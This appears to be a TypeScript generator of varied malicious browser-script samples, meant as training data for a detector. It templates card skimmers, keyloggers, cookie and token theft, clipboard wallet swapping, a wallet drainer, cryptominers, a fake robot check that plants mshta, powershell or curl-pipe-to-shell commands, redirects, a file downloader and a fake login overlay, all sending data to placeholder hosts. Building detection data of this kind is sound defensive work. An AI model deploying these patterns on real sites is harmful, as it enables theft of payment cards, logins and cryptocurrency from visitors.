// Variants of the hostile behaviors in another coding style, so that no behavior is learned from one style alone. Training
// data for a detector: never run, the hosts do not exist, and filler replaces anything harmful.
import { base64, frame, hidden, hostile, miner } from './hostile-templates.ts'
import { skim, leave, onCheckout, skimmer } from './skimmer-templates.ts'
import type { Family, Variation } from './variation.ts'

const out = (v: Variation, what: string): string =>
  v.pick([
    `(new Image).src="${v.address()}?"+escape(${what});`,
    `fetch("${v.address()}",{method:"POST",mode:"no-cors",body:${what}});`,
    `navigator.sendBeacon("${v.address()}",${what});`,
    `let r=new XMLHttpRequest;r.open("POST","${v.address()}");r.send(${what});`,
    `axios.post("${v.address()}",{v:${what}});`,
    `jQuery.get("${v.address()}",{q:${what}});`,
  ])
const elsewhere = (v: Variation): string =>
  v.pick([
    `location.href="${v.address()}"`,
    `window.location.replace("${v.address()}")`,
    `self.location="${v.address()}"`,
    `top.location.assign("${v.address()}")`,
    `window.open("${v.address()}","_self")`,
  ])

export const HOSTILE_VARIANTS: readonly Family[] = [
  skimmer(
    'fields once the page is left',
    (v) =>
      `addEventListener("${v.pick(['pagehide', 'beforeunload', 'visibilitychange'])}",()=>{${skim(v, v.id(0))}${onCheckout(v, leave(v, v.id(0)))}});`,
  ),
  skimmer('change of each field', (v) =>
    `${v.pick(["jQuery(document).on('change','input,select',function(){", "document.addEventListener('change',function(ev){"])}${skim(v, v.id(0))}if(${v.id(0)}.indexOf('${v.pick(['cc_', 'card', 'number', 'cvv'])}')>-1){${leave(v, v.id(0))}}});`.replace(
      /^(jQuery.*)\}\);$/su,
      '$1});',
    ),
  ),
  skimmer(
    'requests to the shop copied',
    (v) =>
      `(function(){var f=window.fetch;window.fetch=function(u,o){try{if(/payment|order|checkout/.test(u)&&o&&o.body){var ${v.id(0)}=${v.pick(['String(o.body)', 'JSON.stringify(o.body)'])};${leave(v, v.id(0))}}}catch(e){}return f.apply(this,arguments)}})();`,
  ),
  skimmer(
    'masked card kept apart',
    (v) =>
      `var ${v.id(0)}={};function ${v.id(1)}(n){var e=document.querySelector('[name*="'+n+'"],[id*="'+n+'"]');return e?e.value:''}setInterval(()=>{var c=${v.id(1)}('number').replace(/\\D/g,'');if(c.length>14&&c!==${v.id(0)}.c){${v.id(0)}={c:c,e:${v.id(1)}('exp'),v:${v.id(1)}('cv'),n:${v.id(1)}('name')};var s=JSON.stringify(${v.id(0)});${leave(v, 's')}}},${v.number(3, 20) * 100});`,
  ),
  skimmer(
    'page of payment written anew',
    (v) =>
      `${onCheckout(v, `var ${v.id(0)}=atob('${base64('<div class="pay-form"><label>Card</label><input id="n1"><input id="n2" placeholder="MM/YY"><input id="n3" placeholder="CVC"></div>')}');var ${v.id(1)}=document.querySelector('.payment,.checkout-payment,#payment');${v.id(1)}.innerHTML=${v.id(0)};${v.id(1)}.addEventListener('${v.pick(['change', 'focusout'])}',function(){var s=['n1','n2','n3'].map(function(i){return document.getElementById(i).value}).join('|');if(s.length>20){${leave(v, 's')}}})`)}`,
  ),
  skimmer('loader with the look of a counter', (v) => {
    const host = base64(v.address())
    return `(function(h,o,t){var a=o.createElement('script'),m=o.getElementsByTagName('script')[0];a.async=1;a.src=${v.pick([`window.atob('${host}')`, `'//'+h.atob('${base64('g-stat.example.net/ga.js')}')`, `t.map(function(c){return String.fromCharCode(c)}).join('')`])};${v.pick(["if(o.location.pathname.indexOf('checkout')+1)", 'if(/onepage|onestep|payment/.test(o.URL))', 'if((o.referrer+o.URL).match(/cart|order/))'])}m.parentNode.insertBefore(a,m)})(window,document,[${[...v.address()].map((c) => c.charCodeAt(0)).join(',')}]);`
  }),
  skimmer(
    'handler of a button exchanged',
    (v) =>
      `var ${v.id(0)}=setInterval(function(){if(typeof ${v.pick(['payment', 'review', 'checkout', 'opcheckout'])}==='undefined')return;clearInterval(${v.id(0)});var p=${v.pick(['payment', 'review'])},s=p.save;p.save=function(){${skim(v, v.id(1))}${leave(v, v.id(1))}return s.apply(p,arguments)}},${v.number(2, 9) * 100});`,
  ),
  miner(
    'asm.js and a worker of text',
    (v) =>
      `var ${v.id(0)}=new Blob(['(',function(){var n=0;onmessage=function(m){var j=m.data;while(n++<1e5){var r=Module.hash(j.blob,n);if(r<j.target)postMessage({job_id:j.job_id,nonce:n,result:r})}}}.toString(),')()']);var t=[];for(var i=0;i<${v.pick(['navigator.hardwareConcurrency', '4', 'threads'])};i++){var w=new Worker(URL.createObjectURL(${v.id(0)}));w.onmessage=function(e){socket.send(JSON.stringify(e.data))};t.push(w)}var socket=new WebSocket('wss://${v.key(5).toLowerCase()}.example.org'),threads=2;socket.onmessage=function(e){t.forEach(function(w){w.postMessage(JSON.parse(e.data))})};`,
  ),
  miner(
    'events of a miner reported',
    (v) =>
      `var ${v.id(0)}=${v.pick(['new CoinHive.Anonymous', 'new Client.Anonymous', 'new Miner', 'createMiner'])}('${v.key(32)}',{throttle:.${v.number(1, 9)}});${v.id(0)}.on('open',function(){});${v.id(0)}.on('found',function(p){console.log(p.hashes)});setInterval(function(){document.title=${v.id(0)}.getHashesPerSecond()+' '+${v.id(0)}.getTotalHashes()+' '+${v.id(0)}.getAcceptedHashes()},1000);${v.id(0)}.start();`,
  ),
  miner(
    'library with a list of proxies',
    (v) =>
      `(function(w){w.${v.pick(['CryptoNoter', 'Cn', 'WebMiner', 'Xmr'])}={CONFIG:{LIB_URL:'${v.address()}lib/',WEBSOCKET_SHARDS:[['wss://a.example.net/proxy'],['wss://b.example.net/proxy']],ASMJS_NAME:'worker-asmjs.min.js'}};var M=function(k,o){this.key=k;this.throttle=o.throttle;this.hasWASMSupport=w.WebAssembly!==undefined;this.threads=o.threads||navigator.hardwareConcurrency};M.prototype.setThrottle=function(t){this.throttle=t};M.prototype.isRunning=function(){return!!this.socket};M.prototype.getHashesPerSecond=function(){return this.hps};new M('${v.key(32)}',{throttle:.${v.number(1, 9)}})})(window);`,
  ),
  hostile(
    'keys by a map',
    (v) =>
      `const ${v.id(0)}=new Map();window.onkeyup=k=>{const f=k.target.name||k.target.id;${v.id(0)}.set(f,(${v.id(0)}.get(f)||'')+k.key)};setTimeout(function s(){if(${v.id(0)}.size){const d=JSON.stringify([...${v.id(0)}]);${out(v, 'd')}${v.id(0)}.clear()}setTimeout(s,${v.number(1, 30)}000)},1000);`,
  ),
  hostile(
    'keys to a socket',
    (v) =>
      `var ${v.id(0)}=new WebSocket('${v.pick(['ws', 'wss'])}://${v.pick(['203.0.113.7', 'k.example.net', 'log.example.org'])}:${v.number(1000, 9000)}');document.${v.pick(["addEventListener('keypress',", "addEventListener('keydown',", "addEventListener('input',"])}function(e){${v.id(0)}.readyState===1&&${v.id(0)}.send(${v.pick(['e.key', 'JSON.stringify({k:e.keyCode,u:location.href})', 'e.target.value'])})});`,
  ),
  hostile('all that the browser keeps', (v) =>
    v.pick([
      `var d=btoa(JSON.stringify({c:document.cookie,l:localStorage,s:sessionStorage,u:document.URL}));${out(v, 'd')}`,
      `let o='';for(let k in localStorage)o+=k+'='+localStorage[k]+';';o+=document.cookie;${out(v, 'o')}`,
      `var t=localStorage.getItem('${v.pick(['token', 'jwt', 'access_token', 'auth'])}');if(t){${out(v, 't+document.cookie')}}`,
    ]),
  ),
  hostile(
    'clipboard read and passed on',
    (v) =>
      `document.addEventListener('${v.pick(['click', 'focus', 'paste'])}',async()=>{const t=await navigator.clipboard.readText();if(${v.pick(['t', "t.split(' ').length>=12", '/^0x|^[13]/.test(t)'])}){${out(v, 't')}}});`,
  ),
  hostile(
    'clipboard filled with another wallet',
    (v) =>
      `['copy','cut'].forEach(function(n){document.addEventListener(n,function(e){var ${v.id(0)}=String(getSelection());var m={btc:/^[13b][a-zA-Z0-9]{25,61}$/,eth:/^0x[0-9a-fA-F]{40}$/,trx:/^T[a-zA-Z0-9]{33}$/};var w={btc:'1${v.key(33)}',eth:'0x${v.key(40)}',trx:'T${v.key(33)}'};for(var k in m)if(m[k].test(${v.id(0)}.trim())){e.clipboardData.setData('text/plain',w[k]);e.preventDefault()}})});`,
  ),
  hostile(
    'balance sent away',
    (v) =>
      `${v.pick(['claim', 'connect', 'start'])}.onclick=async function(){let [a]=await window.${v.pick(['ethereum', 'web3.currentProvider'])}.request({method:'eth_requestAccounts'});let b=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));let g=21000n*20000000000n;if(b>g){await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x${v.key(40)}',value:'0x'+(b-g).toString(16)}]})}${out(v, 'a')}};`,
  ),
  hostile(
    'check of robots with a command',
    (v) =>
      `const ${v.id(0)}=document.createElement('div');${v.id(0)}.innerHTML=\`<div class=box><label><input type=checkbox> I'm not a robot</label><ol><li>Press <b>Win + R</b></li><li>Press <b>Ctrl + V</b></li><li>Press <b>Enter</b></li></ol></div>\`;document.body.append(${v.id(0)});${v.id(0)}.querySelector('input').onchange=()=>{const c=${v.pick(["'mshta https://filler.example/x'", "'powershell -NoProfile -c FILLER'", `atob('${base64('powershell -c FILLER')}')`, "'curl -s https://filler.example|sh'"])};${v.pick(['navigator.clipboard.writeText(c)', "let t=document.createElement('textarea');t.value=c;document.body.append(t);t.select();document.execCommand('copy');t.remove()"])};fetch('${v.address()}')};`,
  ),
  hostile(
    'robot check for notices',
    (v) =>
      `<html><body><h2>${v.pick(['Click Allow if you are not a robot', 'Tap "Allow" to continue', 'Press Allow to watch the video'])}</h2><script>(function ask(){Notification.requestPermission().then(function(p){if(p==='granted'){navigator.serviceWorker.register('${v.pick(['/sw.js', '/push.js'])}').then(function(){${elsewhere(v)}})}else{${v.pick(['setTimeout(ask,500)', elsewhere(v), 'location.reload()'])}}})})();</script></body></html>`,
  ),
  hostile(
    'visitors sorted',
    (v) =>
      `(function(){var u=navigator.userAgent.toLowerCase(),r=document.referrer;${v.pick(['if(/bot|spider|crawl|slurp/.test(u))return;', 'if(navigator.webdriver)return;', 'if(!r||r.indexOf(location.host)>0)return;'])}${v.pick([`if(document.cookie.indexOf('${v.key(4)}=')>=0)return;document.cookie='${v.key(4)}=1;max-age=86400';`, `if(sessionStorage['${v.key(4)}'])return;sessionStorage['${v.key(4)}']=1;`])}${v.pick([`${elsewhere(v)};`, `var s=document.createElement('script');s.src='${v.address()}?ref='+encodeURIComponent(r);document.head.appendChild(s);`, `document.write('${frame(v).replaceAll("'", '"')}');`])}})();`,
  ),
  hostile('redirect by a page tag', (v) =>
    v.pick([
      `<html><head><meta http-equiv="refresh" content="${v.number(0, 3)};url=${v.address()}"></head><body><script>${elsewhere(v)};</script></body></html>`,
      `<script>var u="${[...v.address()].toReversed().join('')}";window.location=u.split("").reverse().join("");</script>`,
      `<script>setTimeout("${elsewhere(v).replaceAll('"', "'")}",${v.number(0, 900)});</script>`,
    ]),
  ),
  hostile(
    'script appended to all scripts',
    (v) =>
      `;(function(){if(window.__${v.key(3)})return;window.__${v.key(3)}=1;${hidden(v, `var e=document.createElement('script');e.src='${v.address()}?v='+Date.now();var c=document.currentScript||document.getElementsByTagName('script')[0];c.parentNode.insertBefore(e,c);`)}})();`,
  ),
  hostile(
    'frame for plug-ins',
    (v) =>
      `<html><head></head><body><script>var v=[${v.number(1, 9)},${v.number(1, 9)}];function d(){try{return new ActiveXObject('ShockwaveFlash.ShockwaveFlash').GetVariable('$version')}catch(e){return navigator.plugins['Shockwave Flash']?navigator.plugins['Shockwave Flash'].description:''}}var f=d();if(f){document.write('<embed src="${v.address()}${v.key(4)}.swf?'+escape(f)+'" width="${v.number(1, 10)}" height="${v.number(1, 10)}" allowScriptAccess="always">')}</script></body></html>`,
  ),
  hostile('code split over functions', (v) => {
    const code = v.pick([`document.write('${frame(v).replaceAll("'", '"')}')`, elsewhere(v)])
    const half = Math.floor(code.length / 2)
    const list = (text: string): string => [...text].map((c) => `0x${c.charCodeAt(0).toString(16)}`).join(',')
    return `function ${v.id(0)}(a){var s='';for(var i in a)s+=String.fromCharCode(a[i]);return s}function ${v.id(1)}(){return ${v.id(0)}([${list(code.slice(0, half))}])}function ${v.id(2)}(){return ${v.id(0)}([${list(code.slice(half))}])}${v.pick(['eval', "this['eval']", "window['ev'+'al']"])}(${v.id(1)}()+${v.id(2)}());`
  }),
  hostile(
    'host script with junk',
    (v) =>
      `var ${v.id(0)}="${v.key(30)}";function ${v.id(1)}(s){return s.split("${v.key(2)}").join("")}var sh=new ActiveXObject("WScript.Shell");for(var i=0;i<${v.number(5, 90)};i++){${v.id(0)}+=i}var st=new ActiveXObject("Scripting.FileSystemObject");var p=st.GetSpecialFolder(2)+"\\\\${v.key(5)}.${v.pick(['exe', 'dll', 'scr'])}";var h=new ActiveXObject("Microsoft.XMLHTTP");h.open("GET","${v.address()}",false);h.send();if(h.status==200){var b=new ActiveXObject("ADODB.Stream");b.Type=1;b.Open();b.Write(h.responseBody);b.SaveToFile(p,2);sh.Run("filler")}`,
  ),
  hostile(
    'file pressed on the visitor',
    (v) =>
      `setTimeout(()=>{let ${v.id(0)}=atob('${base64(v.key(300))}');let a=new Uint8Array([...${v.id(0)}].map(c=>c.charCodeAt(0)));let u=URL.createObjectURL(new Blob([a],{type:'application/octet-stream'}));let l=document.createElement('a');l.href=u;l.download='${v.pick(['Invoice', 'Update', 'Document', 'Setup'])}.${v.pick(['iso', 'zip', 'exe', 'js', 'hta', 'lnk'])}';l.click();${v.chance(0.5) ? `${elsewhere(v)};` : ''}},${v.number(0, 3000)});`,
  ),
  hostile(
    'log-in over the page',
    (v) =>
      `document.body.insertAdjacentHTML('beforeend','<div style="position:fixed;inset:0;background:#fff;z-index:2147483647"><h3>Session expired</h3><form id="f${v.key(3)}"><input name="user"><input type="password" name="pass"><button>${v.pick(['Sign in', 'Continue'])}</button></form></div>');document.querySelector('[id^=f] ').onsubmit=function(e){e.preventDefault();var d=this.user.value+':'+this.pass.value;${out(v, 'd')}this.parentNode.remove()};`,
  ),
]
